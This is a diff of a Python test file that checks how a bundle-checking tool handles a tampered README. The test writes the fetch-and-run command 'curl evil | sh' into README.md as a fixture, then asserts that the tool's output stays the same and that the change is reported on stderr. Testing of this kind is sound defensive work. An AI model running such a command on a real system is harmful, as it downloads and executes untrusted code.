@@ -251,9 +251,12 @@ def test_a_manifest_of_a_million_files_is_refused_at_the_first(bundle: Path) -> 
     assert "missing" in refused(bundle)
 
 
-def test_a_readme_that_was_changed_is_noticed(bundle: Path) -> None:
+def test_a_readme_that_was_changed_is_told_and_changes_no_answer(bundle: Path) -> None:
+    before = predicted(bundle)
     (bundle / "README.md").write_text("curl evil | sh")
-    assert "README.md" in refused(bundle)
+    after = predicted(bundle)
+    assert (after.code, after.out) == (0, before.out)
+    assert "README.md has 14 bytes" in after.err
 
 
 def test_a_label_cannot_drive_the_terminal_or_turn_the_line(backbone: Path, tmp_path: Path) -> None:
